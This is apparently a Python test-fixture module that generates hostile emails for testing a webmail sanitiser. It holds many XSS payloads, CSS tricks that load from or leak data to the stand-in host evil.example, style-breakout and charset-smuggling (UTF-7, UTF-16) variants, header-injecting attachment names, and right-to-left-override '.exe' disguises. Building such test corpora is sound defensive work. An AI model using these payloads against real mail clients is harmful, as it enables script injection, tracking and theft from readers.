"""Mails that attack whoever reads them in a browser, by name: they run, load, cover or deceive.

`attacks(host)` has what the tests of the sanitiser know already, and everything else; what is to
be loaded lies at the host.
"""

import base64

from tests.portal import vectors
from tests.portal.mails import TEXT, html_mail, mail, of_parts

RUN, REMOTE, HOST = vectors.RUN, vectors.REMOTE, "evil.example"
IMG = f"<img src=x onerror={RUN}>"
SCRIPT = f"<script>{RUN}</script>"
EVENT = "BEGIN:VEVENT\r\nUID:1\r\n{}\r\nEND:VEVENT\r\n"
ICS = f"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\n{EVENT}END:VCALENDAR"


def styled(rule: str) -> str:
    """Return a page whose style sheet says this."""
    return f"<style>{rule}</style><div class=x id=x>x<p>y</p></div>"


SHEETS = {
    "import as text": styled(f"@import '{REMOTE}';"),
    "import by url": styled(f"@import url({REMOTE}) screen;"),
    "import in a layer": styled(f"@import url({REMOTE}) layer(x) supports(display:grid);"),
    "import after a charset": styled(f"@charset 'utf-8';@import '{REMOTE}';"),
    "import after a comment": styled(f"<!-- @import '{REMOTE}'; -->"),
    "import in media": styled(f"@media all{{@import '{REMOTE}';}}"),
    "import escaped": styled(f"@\\69mport '{REMOTE}';"),
    "font": styled(f"@font-face{{font-family:x;src:url({REMOTE})}}div{{font-family:x}}"),
    "supports": styled(f"@supports (display:block){{div{{background:url({REMOTE})}}}}"),
    "layer": styled(f"@layer x{{div{{background:url({REMOTE})}}}}"),
    "container": styled(f"@container (width>0){{div{{background:url({REMOTE})}}}}"),
    "nested rule": styled(f"div{{p{{background:url({REMOTE})}}& p{{background:url({REMOTE})}}}}"),
    "document rule": styled(f"@-moz-document url(http:){{div{{background:url({REMOTE})}}}}"),
    "namespace": styled(f"@namespace '{REMOTE}';div{{color:red}}"),
    "property": styled(f"@property --x{{syntax:'<url>';inherits:true;initial-value:url({REMOTE})}}"
                       "div{background:var(--x)}"),
    "background in a rule": styled(f"div{{background:#fff url({REMOTE})}}"),
    "background in media": styled(f"@media all{{div{{background:url('{REMOTE}')}}}}"),
    "background of the body": styled(f"body{{background:url({REMOTE})}}"),
    "background of the root": styled(f":root{{background:url({REMOTE})}}"),
    "background after": styled(f"div::after{{content:'';background:url({REMOTE})}}"),
    "content after": styled(f"div:after{{content:url({REMOTE})}}"),
    "first letter": styled(f"div::first-letter{{background:url({REMOTE})}}"),
    "marker": styled(f"li::marker{{content:url({REMOTE})}}") + "<ul><li>x</ul>",
    "list picture": styled(f"li{{list-style-image:url({REMOTE})}}") + "<ul><li>x</ul>",
    "list": styled(f"li{{list-style:url({REMOTE}) inside}}") + "<ul><li>x</ul>",
    "cursor of a rule": styled(f"div{{cursor:url({REMOTE}),auto}}"),
    "border picture": styled(f"div{{border:9px solid;border-image:url({REMOTE}) 9}}"),
    "mask": styled(f"div{{mask:url({REMOTE});-webkit-mask-image:url({REMOTE})}}"),
    "filter": styled(f"div{{filter:url({REMOTE}#x);backdrop-filter:url({REMOTE}#x)}}"),
    "clip path": styled(f"div{{clip-path:url({REMOTE}#x);shape-outside:url({REMOTE});float:left}}"),
    "offset path": styled(f"div{{offset-path:url({REMOTE}#x)}}"),
    "image-set": styled(f"div{{background-image:image-set('{REMOTE}' 1x)}}"),
    "webkit image-set": styled(f"div{{background-image:-webkit-image-set(url({REMOTE}) 1x)}}"),
    "cross-fade": styled(f"div{{background:-webkit-cross-fade(url({REMOTE}),url({REMOTE}),1%)}}"),
    "src()": styled(f"div{{background-image:src('{REMOTE}')}}"),
    "attr()": f"<style>div{{background:attr(title type(<url>))}}</style><div title='{REMOTE}'>x",
    "variable of a rule": styled(f"div{{--x:url({REMOTE});background:var(--x)}}"),
    "variable of a text": styled(f"div{{--x:'{REMOTE}';background:image-set(var(--x) 1x)}}"),
    "url in calc": styled(f"div{{width:calc(1px + url({REMOTE}))}}"),
    "url in a gradient": styled(f"div{{background:linear-gradient(url({REMOTE}),red)}}"),
    "url escaped in a rule": styled(f"div{{background:\\75 rl({REMOTE})}}"),
    "url after half a string": styled(f"div{{font-family:'x\n}}p{{background:url({REMOTE})"),
    "url in a bad url": styled(f"div{{background:url(x y);color:red;background:url({REMOTE})}}"),
    "property escaped": styled(f"div{{b\\61ckground:url({REMOTE})}}"),
    "star hack": styled(f"div{{*background:url({REMOTE});_background:url({REMOTE})}}"),
    "keyframes": styled(f"@keyframes x{{to{{background:url({REMOTE})}}}}div{{animation:x 1s}}"),
    "page": styled(f"@page{{background:url({REMOTE})}}"),
    "counter style": styled(f"@counter-style x{{system:cyclic;symbols:url({REMOTE})}}"
                            "li{list-style:x}"),
    "attribute spy": styled(f"[value^=a]{{background:url({REMOTE})}}") + "<p value=a>x</p>",
    "style closes in a text": styled(f"div{{font-family:'</style>{IMG}'}}"),
    "style closes in a selector": styled(f"[title='</style>{IMG}']{{color:red}}"),
    "style closes escaped": styled(f"div{{font-family:'\\3c/style>\\3cimg src=x onerror={RUN}>'}}"),
    "style closes in a name": styled(f".\\<\\/style\\>\\<img\\ src\\ onerror\\={RUN}\\>{{top:0}}"),
    "style closes in media": styled(f"@media screen and (x:'</style>{IMG}'){{p{{color:red}}}}"),
    "media attribute": f"<style media=\"all{{}}</style>{IMG}\">p{{color:red}}</style>",
    "style in a comment": f"<!--<style>--></style>{IMG}<!--</style>-->",
    "style in a title": f"<title><style></title>{IMG}</style>",
    "behaviour of a rule": styled(f"div{{behavior:url({REMOTE});-moz-binding:url({REMOTE}#x)}}"),
    "expression of a rule": styled(f"div{{width:expression({RUN})}}"),
    "url of a script": styled(f"div{{background:url('javascript:{RUN}')}}"),
    "half a megabyte of braces": styled("{" * 100_000),
}  # fmt: skip
ELEMENTS = {
    "preload": f'<link rel="preload" as="image" href="{REMOTE}">',
    "preload by srcset": f'<link rel="preload" as="image" imagesrcset="{REMOTE} 1x">',
    "module preload": f'<link rel="modulepreload" href="{REMOTE}">',
    "prerender": f'<link rel="prerender" href="{REMOTE}"><link rel="dns-prefetch" href="{REMOTE}">',
    "icon": f'<link rel="icon" href="{REMOTE}"><link rel="manifest" href="{REMOTE}">',
    "speculation": '<script type="speculationrules">'
                   f'{{"prefetch":[{{"urls":["{REMOTE}"]}}]}}</script>',
    "import map": f'<script type="importmap">{{"imports":{{"x":"{REMOTE}"}}}}</script>',
    "image element": f'<image src="{REMOTE}" onerror={RUN}>',
    "source in a picture": f'<picture><source srcset="{REMOTE}"><img src="cid:x"></picture>',
    "video with sources": f'<video autoplay><source src="{REMOTE}"><track src="{REMOTE}"></video>',
    "background sound": f'<bgsound src="{REMOTE}">',
    "object with parameters": f'<object><param name="movie" value="{REMOTE}">'
                              f'<embed src="{REMOTE}"></object>',
    "object of data": f'<object data="data:text/html,{SCRIPT}"></object>',
    "frame of data": f'<iframe src="data:text/html,{SCRIPT}"></iframe>',
    "frame from elsewhere": f'<iframe src="{REMOTE}"></iframe>',
    "frame with a picture": f"<iframe srcdoc='<img src={REMOTE}>'></iframe>",
    "fenced frame": f'<fencedframe src="{REMOTE}"></fencedframe>',
    "SVG feImage": f'<svg><filter id=f><feImage href="{REMOTE}"/></filter>'
                   '<rect filter="url(#f)"/></svg>',
    "SVG fill": f'<svg><rect fill="url({REMOTE}#x)" width=9 height=9 /></svg>',
    "SVG style": f"<svg><style>rect{{background:url({REMOTE})}}</style><rect/></svg>",
    "SVG xlink": f'<svg><image xlink:href="{REMOTE}"/><script xlink:href="{REMOTE}"/></svg>',
    "SVG set": f"<svg><image><set attributeName=href to={REMOTE}></image></svg>",
    "SVG handler": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "SVG pattern": f'<svg><pattern id=p><image href="{REMOTE}"/></pattern>'
                   '<rect fill="url(#p)"/></svg>',
    "SVG cursor": f'<svg style="cursor:url({REMOTE}),auto"><text>x</text></svg>',
    "MathML link": f'<math href="javascript:{RUN}"><mtext>x</mtext></math>',
    "MathML picture": f'<math><mglyph src="{REMOTE}"/></math>',
    "attribution": f'<img src="cid:x" attributionsrc="{REMOTE}">',
    "cite": f'<blockquote cite="{REMOTE}">x</blockquote>',
    "button that runs": f"<button onclick={RUN} autofocus onfocus={RUN}>x</button>",
    "popover": f"<div popover onbeforetoggle={RUN} id=p>x</div><button popovertarget=p>y</button>",
    "content hidden until found": f"<div hidden=until-found onbeforematch={RUN}>x</div>",
    "scroll": f"<div onscrollend={RUN} style='overflow:auto;height:9px'>x<br>x</div>",
    "transition": f"<p style='transition:color 1s' ontransitionrun={RUN}>x</p>",
    "pointer": f"<p onpointerover={RUN} onwheel={RUN}>x</p>",
    "refresh to a script": f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    "refresh to data": f'<meta http-equiv="refresh" content="0;url=data:text/html,{SCRIPT}">',
    "policy of its own": '<meta http-equiv="Content-Security-Policy" content="img-src *">'
                         f"<img src={REMOTE}>",
    "referrer of its own": f'<meta name="referrer" content="unsafe-url"><img src={REMOTE}>',
    "cookie": '<meta http-equiv="set-cookie" content="session=evil">',
    "base and a picture": f'<base href="http://{HOST}/"><img src="x">',
    "target in a page": f'<base target="_top"><a target="_top" href="{REMOTE}">x</a>',
    "base with a target": '<base target="_top"><a href="http://there.example/">x</a>',
    "form at once": f'<form action="{REMOTE}"><input autofocus onfocus=form.submit()></form>',
    "form of dialogs": f"<form method=dialog onformdata={RUN}><button>x</button></form>",
    "isindex": f'<isindex action="{REMOTE}" type=image src="{REMOTE}">',
    "keygen": f"<keygen autofocus onfocus={RUN}>",
    "dialog": f"<dialog open onclose={RUN} oncancel={RUN}>x</dialog>",
    "slot": f"<template shadowrootmode=open>{IMG}</template>",
    "closed shadow": "<div><template shadowrootmode=closed>"
                     f"<style>@import '{REMOTE}'</style></template></div>",
    "custom built-in": f"<p is=x-y onclick={RUN}>x</p>",
    "namespace of XHTML": f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{RUN}</x:script>',
    "entity of XML": f'<!DOCTYPE x [<!ENTITY y "{SCRIPT}">]>&y;',
    "doctype that is more": f'<!DOCTYPE html PUBLIC "x" "y" [<{IMG}>]>x',
    "comment with a dash": f"<!---->{IMG}",
    "comment that opens twice": f"<!-- <!-- --> {IMG} -->",
    "conditional, revealed": f"<!--[if !mso]><!-->{IMG}<!--<![endif]-->",
    "conditional, bogus": f"<![if !mso]>{IMG}<![endif]>",
    "attribute in attribute": f"<p title='\"' title=\"'>{IMG}\">x</p>",
    "no quotes": f"<p title=x/{IMG}>x</p>",
    "vertical tab": f"<img\x0bsrc=x\x0bonerror={RUN}>{IMG}",
    "data: picture that is none": f"<img src=\"data:image/png,<svg onload={RUN}>\" onload={RUN}>",
    "SVG by base64": "<img src=\"data:image/svg+xml;base64,"
                     + base64.b64encode(f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>"
                                        .encode()).decode() + '">',
    "cid that closes": f"<img src='cid:\"{IMG}'>",
    "entity without an end": f"<a href=\"&#x6A&#x61&#x76&#x61script:{RUN}\">x</a>",
    "entities twice": f"&lt;script&gt;{RUN}&lt;/script&gt;&amp;lt;script&amp;gt;",
    "body in a body": f"<div><body onload={RUN} background={REMOTE}></div>",
    "html in a html": f'<html manifest="{REMOTE}" onclick={RUN}><html onload={RUN}>',
    "body with a bracket": f"<body title='>{IMG}' class='\"><img src={REMOTE}>'>x",
    "frameset that runs": f"<frameset onload={RUN}><frame src={REMOTE}></frameset>",
    "frames of no use": f"<noframes>{IMG}</noframes><noembed>{IMG}</noembed>",
    "listing": f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    "ruby": f"<ruby><rtc><style>{IMG}</style></rtc></ruby>",
    "table that moves": f"<table><a href='javascript:{RUN}'>x<tr><td><a href=http://x>y</table>",
    "select that moves": f"<select><option><style></select>{IMG}</style>",
    "deep table": "<table>" * 90 + IMG + f"<style>@import '{REMOTE}'</style>",
}  # fmt: skip
TEXTS = {
    "script in plain text": SCRIPT,
    "picture in plain text": f'<img src="{REMOTE}" onerror="{RUN}">',
    "javascript: in plain text": f'javascript:{RUN} http://x/"onmouseover={RUN}',
    "link with quotes in plain text": f"https://there.example/'\"><script>{RUN}</script>",
    "link with brackets in plain text": f"<https://there.example/><img src=x onerror={RUN}>",
    "turned link in plain text": "https://there.example/\u202egpj.exe",
    "template in plain text": "{{ 7*7 }}{% raw %}{body}%(x)s",
    "end of a frame in plain text": f"</pre></div></iframe>{SCRIPT}",
}
KINDS = ("text/html", "image/svg+xml", "application/xhtml+xml", "text/xml", "application/pdf")


def attacks(host: str) -> dict[str, bytes]:
    """Return all mails; what they would load lies at this host."""
    pages = vectors.ALL | SHEETS | ELEMENTS
    found = {name: html_mail(html.replace(HOST, host)) for name, html in pages.items()}
    hidden = f'{SCRIPT}{IMG}<img src="{REMOTE}">'.replace(HOST, host)
    return found | _encoded(hidden) | beside_html(host)


def beside_html(host: str) -> dict[str, bytes]:
    """Return the mails that attack by anything but their HTML."""
    found = {name: _plain(text.replace(HOST, host)) for name, text in TEXTS.items()}
    return found | _fields(IMG + SCRIPT) | _attached()


def _plain(text: str) -> bytes:
    return mail(b"Content-Type: text/plain; charset=utf-8", body=text.encode() + b"\r\n")


def _fields(evil: str) -> dict[str, bytes]:
    """Return mails that say it in a field: as it is, and encoded."""
    word = b"=?utf-8?b?" + base64.b64encode(evil.encode()) + b"?="
    found = {}
    for field in ("Subject", "From", "To", "Cc", "Reply-To", "Date", "Message-ID", "X-Evil"):
        for how, said in (("", evil.encode()), (", encoded", word)):
            value = said + b" <eve@there.example>" if field in {"From", "To", "Cc"} else said
            others = b"" if field == "From" else b"From: eve@there.example\r\n"
            found[f"{field} of a mail{how}"] = (
                others + field.encode() + b": " + value + b"\r\n\r\nx\r\n"
            )
    return found


def _encoded(evil: str) -> dict[str, bytes]:
    """Return mails that hide it behind an encoding or a charset."""
    kind = b"Content-Type: text/html; charset="
    hidden = evil.replace("<", "+ADw-").replace(">", "+AD4-")
    escaped = b"".join(b"=%02X" % each for each in evil.encode())
    return {
        "UTF-7": mail(kind + b"utf-7", body=hidden.encode()),
        "UTF-7 by a meta": html_mail(f'<meta charset="utf-7">{hidden}'),
        "UTF-16": mail(kind + b"utf-16", body=evil.encode("utf-16")),
        "UTF-32": mail(kind + b"utf-32", body=evil.encode("utf-32")),
        "ISO-2022-JP": mail(kind + b"iso-2022-jp", body=b"\x1b$B" + evil.encode() + b"\x1b(B"),
        "no charset at all": mail(kind + b"none-such", body=b"\xff\xfe" + evil.encode()),
        "base64 of HTML": mail(kind + b"utf-8", b"Content-Transfer-Encoding: base64",
                               body=base64.encodebytes(evil.encode())),
        "quoted-printable HTML": mail(kind + b"utf-8", b"Content-Transfer-Encoding: "
                                      b"quoted-printable", body=escaped),
        "HTML that says it is text": of_parts(b"Content-Type: text/plain\r\n\r\n" + evil.encode()),
        "HTML in an alternative": of_parts(TEXT, kind + b"utf-8\r\n\r\n" + evil.encode(),
                                           kind=b"alternative"),
        "HTML in a forwarded mail": of_parts(b"Content-Type: message/rfc822\r\n\r\n"
                                             + mail(kind + b"utf-8", body=evil.encode())),
    }  # fmt: skip


def _attached() -> dict[str, bytes]:
    """Return mails with attachments whose name, type or content attacks."""
    evil = f"{SCRIPT}{IMG}".encode()
    found = {
        f"attached {kind}": of_parts(TEXT, f"Content-Type: {kind}; name=a\r\n"
                                     f"Content-Disposition: attachment\r\n\r\n".encode() + evil)
        for kind in KINDS
    }  # fmt: skip
    name = b"Content-Type: application/pdf\r\nContent-Disposition: attachment; filename"
    found["script in a name"] = of_parts(
        TEXT, name + b'="<img src=x onerror=alert(1)>.pdf"\r\n\r\nx'
    )
    found["script in a type"] = of_parts(
        TEXT, b"Content-Type: x/<img/src=x onerror=alert(1)>\r\n\r\nx"
    )
    found["line ends in a name"] = of_parts(TEXT, name + b"*=utf-8''a%0D%0AX-Evil:1.pdf\r\n\r\nx")
    found["turned name"] = of_parts(TEXT, name + b"*=utf-8''a%E2%80%AEfdp.exe\r\n\r\nx")
    for line in ("SUMMARY", "LOCATION", "DESCRIPTION", "ORGANIZER;CN"):
        said = ICS.format(f"{line}:{SCRIPT}{IMG}").encode()
        found[f"invitation: {line}"] = of_parts(TEXT, b"Content-Type: text/calendar; "
                                                b"charset=utf-8\r\n\r\n" + said)  # fmt: skip
    return found
